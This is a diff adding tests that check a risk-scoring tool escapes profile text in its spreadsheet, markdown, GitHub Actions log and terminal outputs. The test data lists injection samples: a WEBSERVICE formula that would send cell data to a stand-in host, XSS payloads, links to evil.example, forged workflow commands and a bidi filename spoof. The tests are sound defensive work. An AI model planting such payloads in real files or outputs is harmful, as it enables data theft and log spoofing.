@@ -18,14 +18,28 @@ import tempfile
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
+import openpyxl
 import pytest
+import xmlschema
+from hypothesis import given
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from riskscore.analysis.pipeline import evaluate_paths, make_report, open_criteria
 from riskscore.commands.app import app
-from riskscore.engine.scorecard import Report
+from riskscore.engine.scorecard import Citation, Report
 from riskscore.render import FORMATS, RenderOptions, get_renderer
-from riskscore.render.escape import csv_cell, md_cell, terminal, xml_text
+from riskscore.render.escape import (
+    BIDI,
+    csv_cell,
+    log_line,
+    md_cell,
+    md_line,
+    terminal,
+    workflow_data,
+    xlsx_text,
+    xml_text,
+)
 from tests.conftest import MINI, ROOT, mini_profile
 
 runner = CliRunner()
@@ -817,3 +831,247 @@ def test_the_html_report_escapes_whatever_a_profile_holds(tmp_path: Path) -> Non
     html = render_report([evil], cset, ReportSettings((str(path),), TODAY, 2, 0, 0.25))
     assert "<b>&</b>" not in html and "<script>x</script>" not in html
     assert "&lt;b&gt;&amp;&lt;/b&gt;" in html
+
+
+# --- 9. Profile text is data for every consumer (issue 22, section 1) -------------------------
+
+HOSTILE: dict[str, list[str]] = {
+    "formula": [
+        '=WEBSERVICE("https://x.example/?"&A1)',
+        '+HYPERLINK("https://x.example","click")',
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+    "html": ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">'],
+    "markdown": [
+        "[click me](https://evil.example/a)",
+        "![pixel](https://evil.example/p.png)",
+        "@octocat please look",
+        "fixes #1",
+        "see https://evil.example and www.evil.example",
+        "`code` and | pipe",
+    ],
+    "workflow": [
+        "::error file=x.yaml,line=1::fake annotation",
+        "text ::add-mask::secret",
+        "##[error]fake error",
+        "text ##[add-mask]word",
+        "%0A::warning::x",
+    ],
+    "bidi": ["evil\u202egnp.exe", "a\u2066b\u2069c\u200e\u200f\u061c"],
+    "newline": ["one\n::error::injected", "two\r\n##[warning]injected", "three\u2028four"],
+}
+"""Hostile strings of every kind issue 22 names, fed to each consumer's writer."""
+
+ALL_HOSTILE = [s for kind in HOSTILE.values() for s in kind]
+
+
+def _hostile_report(tmp_path: Path, copies: int = 1) -> Report:
+    """A report whose every profile-borne text holds one of the hostile strings (built as a
+    scorecard would be outside the loader, which refuses some of them)."""
+    path = tmp_path / "p.yaml"
+    path.write_text(mini_profile("flag: false\nlevel: low\nrisk: severe"), encoding="utf-8")
+    cset = open_criteria(MINI)
+    card = evaluate_paths([path], cset, TODAY).scorecards[0]
+    cards = []
+    for i in range(copies):
+        texts = iter(ALL_HOSTILE * 4)
+        cards.append(
+            card.model_copy(
+                update={
+                    "project": ALL_HOSTILE[i % len(ALL_HOSTILE)],
+                    "path": f"in/p{i}.yaml",
+                    "country": next(texts),
+                    "as_of": next(texts),
+                    "band_reason": next(texts),
+                    "criteria": [
+                        c.model_copy(
+                            update={
+                                "explanation": next(texts),
+                                "facts": [
+                                    f.model_copy(update={"sources": ["s1"], "known": True})
+                                    for f in c.facts
+                                ],
+                            }
+                        )
+                        for c in card.criteria
+                    ],
+                    "flags": [
+                        f.model_copy(update={"message": next(texts), "evidence": next(texts)})
+                        for f in card.flags
+                    ],
+                    "citations": {"s1": Citation(title=next(texts), url="https://example.org/s1")},
+                }
+            )
+        )
+    return make_report(cards, cset)
+
+
+def _each_hostile_text(tmp_path: Path) -> list[Report]:
+    """One report per hostile string, in the project name (the field every writer shows)."""
+    base = _hostile_report(tmp_path)
+    card = base.scorecards[0]
+    return [
+        make_report([card.model_copy(update={"project": text})], open_criteria(MINI))
+        for text in ALL_HOSTILE
+    ]
+
+
+def test_xlsx_writes_profile_text_as_text_never_a_formula(tmp_path: Path) -> None:
+    from riskscore.render import xlsx_format
+
+    reports = [_hostile_report(tmp_path, copies=len(ALL_HOSTILE)), *_each_hostile_text(tmp_path)]
+    for report in reports:
+        book = openpyxl.load_workbook(io.BytesIO(xlsx_format.render_bytes(report)))
+        formulas = [
+            f"{sheet.title}!{cell.coordinate}"
+            for sheet in book.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if cell.data_type == "f"
+        ]
+        assert formulas == []  # riskscore writes no formula; profile text never becomes one
+        names = {r[1] for r in book["Ranking"].iter_rows(min_row=2, values_only=True)}
+        # The text is kept exactly, less control and bidirectional characters.
+        assert names == {xlsx_text(c.project) for c in report.scorecards}
+        for sheet in book.worksheets:
+            for link in sheet._hyperlinks:
+                assert link.target == "https://example.org/s1"
+
+
+def _markdown_html(text: str) -> str:
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
+
+
+def test_markdown_keeps_profile_text_inert(tmp_path: Path) -> None:
+    for report in [_hostile_report(tmp_path, copies=3), *_each_hostile_text(tmp_path)]:
+        text = get_renderer("markdown")(report, RenderOptions())
+        html = _markdown_html(text)
+        for tag in ("<script", "<img", "<a "):
+            assert tag not in html, tag
+        for code in re.findall(r"<code>(.*?)</code>", html):  # only riskscore's own ids
+            assert re.fullmatch(r"[a-z0-9:/-]+", code), code
+        assert not re.search(r"@[A-Za-z0-9]", text)  # no @mention
+        assert not re.search(r"#[0-9]", text)  # no issue reference
+        assert not re.search(r"(?i)https?://|www\.", text)  # no autolink
+        assert not re.search(f"[{BIDI}]", text)
+        # No line break or pipe from a value: every row of a table has its header's cells.
+        for table in re.findall(r"(?m)(?:^\|.*\n?)+", text):
+            cells = {
+                len(re.findall(r"(?<!\\)\|", row.replace("\\\\", ""))) for row in table.splitlines()
+            }
+            assert len(cells) == 1, table
+        # The text is still readable: each hostile project name shows as written.
+        shown = html.replace("\u200b", "")
+        for card in report.scorecards:
+            visible = re.sub(r"\s+", " ", card.project.replace("\u2028", " ")).strip()
+            visible = re.sub(f"[{BIDI}]", "", visible)
+            assert visible.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
+                '"', "&quot;"
+            ) in re.sub(r"\s+", " ", shown), visible
+
+
+_COMMAND = re.compile(r"^::(error|warning|notice|group|endgroup)( [^:]*)?::")
+
+
+def test_github_log_lines_hold_no_workflow_command_from_a_profile(tmp_path: Path) -> None:
+    report = _hostile_report(tmp_path, copies=len(ALL_HOSTILE))  # past the caps: plain lines too
+    text = get_renderer("github")(report, RenderOptions())
+    plain = 0
+    for line in text.splitlines():
+        assert "##[" not in line, line
+        found = _COMMAND.match(line)
+        if found:
+            assert "::" not in line[found.end() :], line  # the message holds no command
+        else:
+            plain += 1
+            assert "::" not in line and re.match(r"^(error|warning|notice) ", line), line
+        assert not re.search(f"[{BIDI}\r]", line)
+    assert plain > 10
+
+
+def test_stderr_holds_no_workflow_command_from_a_profile(tmp_path: Path) -> None:
+    """Under GitHub Actions stderr is the job log too: gate lines and error messages quote
+    project names and values."""
+    path = tmp_path / "p.yaml"
+    name = "##[error]fake ::warning::x"
+    path.write_text(
+        mini_profile("flag: false\nlevel: low").replace("name: Test", f"name: '{name}'"),
+        encoding="utf-8",
+    )
+    code, _, stderr = run(
+        "evaluate", str(path), "-c", str(MINI), "-f", "github", "--fail-under", "99"
+    )
+    assert code == 1 and "riskscore: gate:" in stderr
+    bad = tmp_path / "bad.yaml"
+    bad.write_text(mini_profile("level: '##[add-mask]x ::error::y'"), encoding="utf-8")
+    code, _, stderr2 = run("evaluate", str(bad), "-c", str(MINI))
+    assert code == 2 and "is not one of" in stderr2
+    for line in (stderr + stderr2).splitlines():
+        assert "##[" not in line and "::" not in line, line
+
+
+def test_junit_and_terminal_drop_bidirectional_controls_and_log_commands(tmp_path: Path) -> None:
+    report = _hostile_report(tmp_path, copies=3)
+    for fmt in ("junit", "table", "csv"):
+        text = get_renderer(fmt)(report, RenderOptions(width=100))
+        assert not re.search(f"[{BIDI}]", text), fmt
+        if fmt == "table":  # a terminal under GitHub Actions is the job log
+            assert "##[" not in text and "::" not in text
+    xsd = xmlschema.XMLSchema(ROOT / "tests" / "data" / "junit" / "junit-10.xsd")
+    xsd.validate(get_renderer("junit")(report, RenderOptions()))
+
+
+def test_escapers_handle_every_hostile_kind() -> None:
+    for text in ALL_HOSTILE:
+        line = md_line(text)
+        assert "\n" not in line and "\r" not in line and not re.search(r"(?<!\\)[\[\]<>!`|]", line)
+        assert "##[" not in log_line(text) and "::" not in log_line(text)
+        data = workflow_data(text)
+        assert "##[" not in data and "::" not in data and "\n" not in data
+        assert not re.search(f"[{BIDI}]", xlsx_text(text) + log_line(text) + md_line(text))
+    assert md_line("a@b [x](y) <i> #2") == "a@\u200bb \\[x\\](y) \\<i\\> #\u200b2"
+    assert log_line("x ##[error]y\n::warning::z") == "x ##\u200b[error]y :\u200b:warning:\u200b:z"
+    assert workflow_data("100% ::x\n") == "100%25 :\u200b:x%0A"
+
+
+_HOSTILE_CHARS = st.sampled_from(
+    [
+        *"=+-@\t\r\n\\`[]()<>!|#:%*_~&/.w ",
+        *("://", "www.", "##[", "::", "\u2028", "\x1b"),
+        *"\u202e\u2066\u200f\u061c",
+    ]
+)
+
+
+@given(st.lists(st.one_of(_HOSTILE_CHARS, st.text(max_size=3)), max_size=30).map("".join))
+def test_escapers_hold_for_any_text(text: str) -> None:
+    """Fuzz: whatever a profile holds, each escaper's output does nothing in its reader."""
+    from markdown_it import MarkdownIt
+
+    tokens = MarkdownIt("commonmark", {"html": True}).parseInline(md_line(text))[0].children
+    kinds = {t.type for t in tokens or []}
+    assert not kinds & {"link_open", "image", "html_inline", "code_inline", "softbreak"}, kinds
+    content = "".join(t.content for t in tokens or [] if t.type == "text")
+    assert not re.search(r"@[A-Za-z0-9]|#[0-9]|://|(?i:www)\.", content)
+    for out in (log_line(text), workflow_data(text), terminal(text)):
+        assert "##[" not in out and "::" not in out
+    assert "\n" not in log_line(text) and "\n" not in md_line(text)
+    assert not re.search(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{BIDI}]", xlsx_text(text) + md_line(text))
+
+
+def test_history_markdown_keeps_profile_text_inert() -> None:
+    from riskscore.analysis.history import History
+    from riskscore.render.history import render_markdown
+
+    plain = render_markdown(History(project="A", path="p.yaml", criteria="c", steps=[]))
+    for text in ALL_HOSTILE:
+        heading = render_markdown(History(project=text, path="p.yaml", criteria="c", steps=[]))
+        html = _markdown_html(heading)
+        assert "<script" not in html and "<img" not in html and "<a " not in html
+        assert heading.count("\n") == plain.count("\n")  # no line break from the name
+        assert not re.search(r"@[A-Za-z]|#[0-9]", heading)
